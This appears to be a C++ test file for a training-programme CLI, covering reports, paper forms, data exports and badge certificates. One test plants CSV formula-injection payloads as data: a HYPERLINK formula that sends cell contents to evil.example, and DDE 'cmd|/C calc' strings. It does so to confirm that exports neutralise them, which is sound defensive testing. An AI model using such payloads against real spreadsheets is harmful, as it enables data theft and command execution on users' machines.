// Reports, paper forms and exports, end to end through the real mitra-cli: the files they write, read back.
#include <catch2/catch.hpp>

#include <sys/stat.h>

#include <cstdio>
#include <filesystem>
#include <fstream>
#include <sstream>

#include "../io/cells.hpp"
#include "names.hpp"
#include "run_cli.hpp"

using namespace mitra::cli_test;
using nlohmann::json;
namespace fs = std::filesystem;

namespace {

const std::string kCohort = "KTM-2026-1";

std::string slurp(const fs::path& path) {
    std::ifstream in(path, std::ios::binary);
    std::stringstream s;
    s << in.rdbuf();
    return s.str();
}

// Runs a shell command and hands back what it printed (stderr dropped).
std::string shell(const std::string& command) {
    std::string out;
    FILE* pipe = popen((command + " 2>/dev/null").c_str(), "r");
    if (!pipe) return out;
    char buffer[4096];
    std::size_t n;
    while ((n = fread(buffer, 1, sizeof buffer, pipe)) > 0) out.append(buffer, n);
    pclose(pipe);
    return out;
}

std::string quoted(const fs::path& p) { return "'" + p.string() + "'"; }

// The eight people of names.hpp in one Nepal cohort, three sessions marked, the first five complete.
void small_programme(const Workspace& ws) {
    ws.ok({"init"});
    ws.ok({"trainer", "add", "--ref", "T-NP-01", "--name", kSita, "--latin-name", "Sita Rai", "--country", "NP",
           "--languages", "ne,en", "--qualified", "M01,M02,M03"});
    ws.ok({"participant", "import", ws.file("people.csv", people_csv())});
    ws.ok({"cohort", "create", "--code", kCohort, "--curriculum", "PSF", "--site", "Patan Community Centre",
           "--country", "NP", "--language", "hi", "--start", "2026-01-05", "--trainer", "T-NP-01"});
    ws.ok({"cohort", "enrol", kCohort, "P-001", "P-002", "P-003", "P-004", "P-005", "P-006", "P-007", "P-008", "--on",
           "2026-01-01"});
    ws.ok({"session", "schedule", kCohort, "--every", "7", "--at", "10:00"});
    ws.ok({"attendance", "mark", "1", "--everyone-present"});
    ws.ok({"attendance", "mark", "2", "--everyone-present"});
    for (const std::string ref : {"P-001", "P-002", "P-003", "P-004", "P-005"}) {
        for (const std::string m : {"M01", "M02", "M03", "M04", "M05", "M06", "M07", "M08", "M09", "M10"})
            ws.ok({"completion", "override", kCohort, ref, m, "--complete", "--reason", "recognised prior learning"});
        ws.ok({"ethics", "acknowledge", ref, "--version", "2026.1"});
        for (const char* kind : {"supervision_agreement", "lived_experience"})
            ws.ok({"attest", ref, kind, "--signed", "--on", "2026-01-05"});
    }
}

}  // namespace

TEST_CASE("a coordinator writes the programme report as PDF, CSV and XLSX in one step", "[cli][report]") {
    Workspace ws;
    small_programme(ws);
    const std::vector<std::string> period = {"report", "--from", "2026-01-01", "--to", "2026-03-31"};

    SECTION("PDF with charts; labels in Hindi; aggregates only") {
        const fs::path pdf = ws.dir / "report.pdf";
        auto args = period;
        for (const std::string a : {"--language", "hi", "--out"}) args.push_back(a);
        args.push_back(pdf.string());
        const json j = ws.json(args);
        CHECK(j["summary"]["people enrolled"] == "8");
        CHECK(j["summary"]["people completed"] == "5");
        CHECK(j["summary"]["completion rate"] == "63%");
        CHECK(j["summary"]["trainers active"] == "<5");
        const std::string info = shell("pdfinfo " + quoted(pdf));
        CHECK(info.find("Page size:       595.276 x 841.89 pts (A4)") != std::string::npos);
        const std::string text = shell("pdftotext " + quoted(pdf) + " -");
        CHECK(text.find("साथी सहायता") != std::string::npos);   // the curriculum title in Hindi
        CHECK(text.find("जिया हुआ अनुभव") != std::string::npos);  // M01's title in Hindi
        // Every label in Hindi, the country by its Hindi name; none of the English labels left.
        CHECK(j["language"] == "hi");
        CHECK(text.find("कार्यक्रम रिपोर्ट") != std::string::npos);                         // the title
        CHECK(text.find("पूर्णता फ़नल") != std::string::npos);                              // the funnel's caption
        CHECK(text.find("देश के अनुसार नामांकित और पूरा करने वाले लोग") != std::string::npos);  // the countries' chart
        CHECK(text.find("नेपाल") != std::string::npos);                                   // Nepal, from ICU
        CHECK(text.find("नामांकित लोग") != std::string::npos);                            // a key figure
        CHECK(text.find("पृष्ठ 1") != std::string::npos);
        for (const std::string english : {"Completion funnel", "People enrolled", "by country", "Programme report",
                                          "page 1", "Aggregate figures", "people completed"})
            CHECK(text.find(english) == std::string::npos);
        CHECK(j["countries"][0]["code"] == "NP");
        CHECK(j["countries"][0]["country"] == "नेपाल");
        CHECK(text.find("<5") != std::string::npos);
        for (const auto& name : {kYamada, kPriya, kSita, std::string("P-001")})
            CHECK(text.find(name) == std::string::npos);
        CHECK_FALSE(fs::exists(ws.dir / ".report.pdf.tmp"));
    }

    SECTION("CSV: UTF-8 with a byte-order mark, one table of table,item,measure,value") {
        const fs::path csv = ws.dir / "report.csv";
        auto args = period;
        args.push_back("--out");
        args.push_back(csv.string());
        ws.ok(args);
        const std::string content = slurp(csv);
        REQUIRE(content.rfind("\xEF\xBB\xBF"
                              "table,item,measure,value\r\n",
                              0) == 0);
        CHECK(content.find("Summary,,people enrolled,8") == std::string::npos);  // the item is the row's label
        CHECK(content.find("Summary,people enrolled,value,8\r\n") != std::string::npos);
        CHECK(content.find("Countries,Nepal,enrolled,8\r\n") != std::string::npos);  // the country by name
        CHECK(content.find("P-00") == std::string::npos);
        // Python's csv module reads it back (the BOM taken off by utf-8-sig) with four fields on every row.
        const std::string check = shell(
            "python3 -c \"import csv,sys; rows=list(csv.reader(open(sys.argv[1], "
            "encoding='utf-8-sig', newline=''))); print(len(rows), set(len(r) for r in "
            "rows))\" " +
            quoted(csv));
        CHECK(check.find("{4}") != std::string::npos);
    }

    SECTION("XLSX: a valid zip holding a sheet per table") {
        const fs::path xlsx = ws.dir / "report.xlsx";
        auto args = period;
        for (const std::string a : {"--format", "xlsx", "--out"}) args.push_back(a);
        args.push_back(xlsx.string());
        ws.ok(args);
        const std::string listing = shell(
            "python3 -c \"import zipfile,sys; z=zipfile.ZipFile(sys.argv[1]); "
            "assert z.testzip() is None; print('\\n'.join(z.namelist())); "
            "print(z.read('xl/workbook.xml').decode())\" " +
            quoted(xlsx));
        CHECK(listing.find("xl/worksheets/sheet1.xml") != std::string::npos);
        CHECK(listing.find("xl/worksheets/sheet4.xml") != std::string::npos);
        CHECK(listing.find("name=\"Summary\"") != std::string::npos);
        CHECK(listing.find("name=\"Modules\"") != std::string::npos);
    }

    SECTION("CSV and XLSX in Japanese: headings, sheet names and countries in Japanese, JSON keys in English") {
        const fs::path csv = ws.dir / "report-ja.csv";
        auto args = period;
        for (const std::string a : {"--language", "ja", "--out"}) args.push_back(a);
        args.push_back(csv.string());
        const json j = ws.json(args);
        CHECK(j["summary"]["people enrolled"] == "8");  // machines keep the English keys
        const std::string content = slurp(csv);
        REQUIRE(content.rfind("\xEF\xBB\xBF"
                              "表,項目,指標,値\r\n",
                              0) == 0);
        CHECK(content.find("概要,登録者数,値,8\r\n") != std::string::npos);
        CHECK(content.find("国別,ネパール,登録,8\r\n") != std::string::npos);
        CHECK(content.find("people enrolled") == std::string::npos);

        const fs::path xlsx = ws.dir / "report-ja.xlsx";
        args.back() = xlsx.string();
        ws.ok(args);
        const std::string listing = shell(
            "python3 -c \"import zipfile,sys; z=zipfile.ZipFile(sys.argv[1]); "
            "assert z.testzip() is None; print(z.read('xl/workbook.xml').decode()); "
            "print(z.read('xl/sharedStrings.xml').decode())\" " +
            quoted(xlsx));
        CHECK(listing.find("name=\"概要\"") != std::string::npos);
        CHECK(listing.find("name=\"モジュール\"") != std::string::npos);
        CHECK(listing.find("プログラムの概要") != std::string::npos);  // the sheet's title row
        CHECK(listing.find("ネパール") != std::string::npos);
        CHECK(listing.find("修了率") != std::string::npos);
    }

    SECTION("a language the report does not speak is refused, naming those it does") {
        const auto refused = ws.run({"report", "--from", "2026-01-01", "--to", "2026-02-01", "--language", "xx",
                                     "--out", (ws.dir / "x.pdf").string()});
        CHECK(refused.status == 2);
        CHECK(refused.err.find("--language") != std::string::npos);
        CHECK(refused.err.find("zh-Hant") != std::string::npos);
        CHECK_FALSE(fs::exists(ws.dir / "x.pdf"));
    }

    SECTION("bad periods and filters are refused and nothing is written") {
        const auto out =
            ws.run({"report", "--from", "2026-03-01", "--to", "2026-01-01", "--out", (ws.dir / "x.pdf").string()});
        CHECK(out.status == 2);
        CHECK(out.err.find("--to") != std::string::npos);
        CHECK(ws.run({"report", "--from", "2026-01-01", "--to", "2026-02-01", "--cohort", "NOPE", "--out",
                      (ws.dir / "x.pdf").string()})
                  .status == 2);
        CHECK_FALSE(fs::exists(ws.dir / "x.pdf"));
    }
}

TEST_CASE("a trainer prints a session's sign-in sheet and its typed-in CSV imports", "[cli][forms]") {
    Workspace ws;
    small_programme(ws);
    const fs::path sheet = ws.dir / "sheet-3.pdf";
    ws.ok({"session", "sheet", "3", "--out", sheet.string()});
    struct stat st {};
    REQUIRE(::stat(sheet.c_str(), &st) == 0);
    CHECK((st.st_mode & 0077) == 0);  // names on it: the owner's only
    const std::string text = shell("pdftotext " + quoted(sheet) + " -");
    CHECK(text.find("Session 3") != std::string::npos);
    for (const auto& name : {kYamada, kMinjun, kSomchai, kPriya, kAisha, kMinhKhai, kSukarno, kBobby})
        CHECK(text.find(name) != std::string::npos);
    for (const std::string ref : {"P-001", "P-008"}) CHECK(text.find(ref) != std::string::npos);
    CHECK(text.find(kSita) != std::string::npos);  // the trainer
    CHECK(shell("pdfinfo " + quoted(sheet)).find("A4") != std::string::npos);

    // What a trainer types from the ticked sheet: the layout printed at its foot.
    const std::string typed =
        "session,ref,status,minutes\n"
        "3,P-001,P,\n3,P-002,L,95\n3,P-003,E,\n3,P-004,A,\n3,P-005,p,\n";
    const auto imported = ws.json({"attendance", "import", kCohort, ws.file("typed.csv", typed)});
    CHECK(imported["marked"] == 5);
    CHECK(ws.count("attendance") == 8 + 8 + 5);

    ws.ok({"cohort", "roster", kCohort, "--out", (ws.dir / "roster.pdf").string()});
    const std::string roster = shell("pdftotext " + quoted(ws.dir / "roster.pdf") + " -");
    CHECK(roster.find(kMinhKhai) != std::string::npos);
    CHECK(roster.find("Yamada Hanako") != std::string::npos);

    ws.ok({"cohort", "form", kCohort, "--out", (ws.dir / "form.pdf").string()});
    const std::string form = shell("pdftotext " + quoted(ws.dir / "form.pdf") + " -");
    CHECK(form.find("नामांकन फ़ॉर्म") != std::string::npos);  // the cohort's language is Hindi
    CHECK(form.find("Enrolment form") != std::string::npos);
    CHECK(form.find("Signature") != std::string::npos);
    CHECK(form.find("iagnosis") != std::string::npos);  // only to say it is never asked
}

TEST_CASE("exports: personal data only on request, and a round trip through CSV changes nothing", "[cli][export]") {
    Workspace ws;
    small_programme(ws);
    ws.ok({"participant", "add", "--ref", "P-013", "--name", kSriyani, "--country", "LK", "--language", "si", "--phone",
           "+94 11 234 5678", "--consent", "2026-01-03"});
    const fs::path out = ws.dir / "people-export.csv";

    const auto refused = ws.run({"participant", "export", "--out", out.string()});
    CHECK(refused.status == 2);
    CHECK(refused.err.find("--include-personal-data") != std::string::npos);
    CHECK_FALSE(fs::exists(out));

    ws.ok({"participant", "export", "--out", out.string(), "--include-personal-data"});
    const std::string csv = slurp(out);
    CHECK(csv.rfind("\xEF\xBB\xBF"
                    "ref,full_name,latin_name,country,language,email,phone,consent_date\r\n",
                    0) == 0);
    CHECK(csv.find(kBobby) != std::string::npos);
    CHECK(csv.find(kSriyani) != std::string::npos);
    struct stat st {};
    REQUIRE(::stat(out.c_str(), &st) == 0);
    CHECK((st.st_mode & 0077) == 0);

    const std::string before = ws.dump();
    const json again = ws.json({"participant", "import", out.string()});
    CHECK(again["unchanged"] == 9);
    CHECK(again["created"] == 0);
    CHECK(again["updated"] == 0);
    CHECK(ws.dump() == before);

    ws.ok({"cohort", "export", "--out", (ws.dir / "cohorts.csv").string()});
    const std::string cohorts = slurp(ws.dir / "cohorts.csv");
    CHECK(cohorts.find(
              "code,curriculum,curriculum_version,site,country,language,start,end,time_zone,capacity,trainers") !=
          std::string::npos);
    CHECK(cohorts.find("KTM-2026-1,PSF,2026.2,Patan Community Centre,NP,hi,2026-01-05,,Asia/Kathmandu,0,T-NP-01") !=
          std::string::npos);

    const json done =
        ws.json({"completion", "export", kCohort, "--out", (ws.dir / "done.csv").string(), "--today", "2026-03-01"});
    CHECK(done["complete"] == 5);
    const std::string completions = slurp(ws.dir / "done.csv");
    CHECK(completions.find("KTM-2026-1,P-001,PROGRAMME,yes,yes,") != std::string::npos);
    CHECK(completions.find(kYamada) == std::string::npos);
}

TEST_CASE("names, sites and actors that look like formulas are exported as text and come back unchanged",
          "[cli][export][formula]") {
    Workspace ws;
    small_programme(ws);
    const std::string hyperlink = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")";
    ws.ok({"participant", "add", "--ref", "P-020", "--name", hyperlink, "--latin-name", "-Rai", "--country", "NP",
           "--language", "ne", "--phone", "+977 1 555 0100"});
    ws.ok({"participant", "add", "--ref", "P-021", "--name", "+cmd|' /C calc'!A0", "--country", "NP", "--language",
           "ne", "--email", "-x@example.org"});
    ws.ok({"participant", "add", "--ref", "P-022", "--name", "'=already quoted", "--latin-name", "O'Neil", "--country",
           "NP", "--language", "ne"});
    ws.ok({"cohort", "create", "--code", "KTM-2026-2", "--curriculum", "PSF", "--site", "=cmd|' /C calc'!A0 Hall",
           "--country", "NP", "--language", "ne", "--start", "2026-02-02", "--trainer", "T-NP-01"});
    const auto overridden = ws.run_as("@SUM(1+1)", {"completion", "override", kCohort, "P-006", "M01", "--complete",
                                                    "--reason", "-recognised prior learning"});
    INFO(overridden.err);
    REQUIRE(overridden.status == 0);

    auto no_formula_in = [](const std::string& csv) {
        const auto cells = mitra::io::testing::spreadsheet_cells(csv);
        REQUIRE(cells.size() > 10);
        for (const auto& cell : cells) {
            INFO("cell: [" << cell << "]");
            CHECK_FALSE(mitra::io::testing::starts_formula(cell));
        }
    };

    const fs::path people = ws.dir / "people.csv";
    ws.ok({"participant", "export", "--out", people.string(), "--include-personal-data"});
    const std::string csv = slurp(people);
    no_formula_in(csv);
    CHECK(csv.find("P-022,''=already quoted,O'Neil,") != std::string::npos);
    CHECK(csv.find(",'-Rai,NP,ne,,'+977 1 555 0100,") != std::string::npos);

    // What a spreadsheet saves unchanged imports as no change at all.
    const std::string before = ws.dump();
    const json again = ws.json({"participant", "import", people.string()});
    CHECK(again["unchanged"] == 11);
    CHECK(again["created"] == 0);
    CHECK(again["updated"] == 0);
    CHECK(ws.dump() == before);
    const json shown = ws.json({"participant", "show", "P-020"});
    CHECK(shown["full_name"] == hyperlink);
    CHECK(shown["latin_name"] == "-Rai");
    CHECK(shown["phone"] == "+977 1 555 0100");

    ws.ok({"cohort", "export", "--out", (ws.dir / "cohorts.csv").string()});
    const std::string cohorts = slurp(ws.dir / "cohorts.csv");
    no_formula_in(cohorts);
    CHECK(cohorts.find(",'=cmd|' /C calc'!A0 Hall,") != std::string::npos);

    ws.ok({"audit", "--cohort", kCohort, "--out", (ws.dir / "audit.csv").string()});
    const std::string audit = slurp(ws.dir / "audit.csv");
    no_formula_in(audit);
    CHECK(audit.find(",'@SUM(1+1),") != std::string::npos);
}

TEST_CASE("an issued certificate becomes an Open Badges 2.0 assertion", "[cli][badge]") {
    Workspace ws;
    small_programme(ws);
    const json issued = ws.json({"certificate", "issue", kCohort, "--out", (ws.dir / "certs").string(), "--today",
                                 "2026-03-20", "--verify-url", "https://verify.example.org/"});
    REQUIRE(issued["certificates"].size() == 5);
    std::string serial, yamada_serial;
    for (const auto& c : issued["certificates"]) {
        if (c["ref"] == "P-001") yamada_serial = c["serial"];
        if (c["ref"] == "P-002") serial = c["serial"];
    }
    const fs::path out = ws.dir / "badge.json";
    ws.ok({"certificate", "badge", yamada_serial, "--out", out.string()});
    const json b = json::parse(slurp(out));
    CHECK(b["@context"] == "https://w3id.org/openbadges/v2");
    CHECK(b["type"] == "Assertion");
    CHECK(b["id"].get<std::string>().rfind("urn:uuid:", 0) == 0);
    CHECK(b["recipient"]["type"] == "email");  // P-001 has an email
    CHECK(b["recipient"]["hashed"] == true);
    const std::string identity = b["recipient"]["identity"];
    REQUIRE(identity.rfind("sha256$", 0) == 0);
    // The hash is of the email and the salt, so the holder can prove it and no one else can read it.
    const std::string salt = b["recipient"]["salt"];
    const std::string expected = shell("printf '%s' 'hanako@example.org" + salt + "' | sha256sum | cut -c1-64");
    CHECK(identity == "sha256$" + expected.substr(0, 64));
    CHECK(b.dump().find("hanako@example.org") == std::string::npos);
    CHECK(b["badge"]["type"] == "BadgeClass");
    CHECK(b["badge"]["name"] == "Peer Support Foundations");
    CHECK(b["badge"]["criteria"]["narrative"].get<std::string>().find("required modules") != std::string::npos);
    CHECK(b["badge"]["image"].get<std::string>().rfind("data:image/svg+xml;base64,", 0) == 0);
    CHECK(b["badge"]["issuer"]["type"] == "Profile");
    CHECK(b["issuedOn"] == "2026-03-20T00:00:00Z");
    CHECK(b["verification"]["type"] == "SignedBadge");
    CHECK(b["verification"]["algorithm"] == "Ed25519");
    const std::string payload = b["extensions:MitraCertificate"]["qrPayload"];
    CHECK(b["extensions:MitraCertificate"]["serial"] == yamada_serial);
    // The payload in the badge verifies offline with the exported public key.
    ws.ok({"key", "export", "--out", (ws.dir / "mitra-public.key").string()});
    const auto verified =
        ws.run({"certificate", "verify", "--qr", payload, "--public-key", (ws.dir / "mitra-public.key").string()});
    CHECK(verified.status == 0);
    CHECK(verified.out.find("GENUINE") != std::string::npos);

    // Someone without an email: the badge names the hashed full name; a revoked certificate gets no badge.
    ws.ok({"certificate", "badge", serial, "--out", (ws.dir / "b2.json").string()});
    CHECK(json::parse(slurp(ws.dir / "b2.json"))["recipient"]["type"] == "name");
    ws.ok({"certificate", "revoke", serial, "--reason", "issued in error"});
    CHECK(ws.run({"certificate", "badge", serial, "--out", (ws.dir / "b3.json").string()}).status == 2);
    CHECK_FALSE(fs::exists(ws.dir / "b3.json"));
}
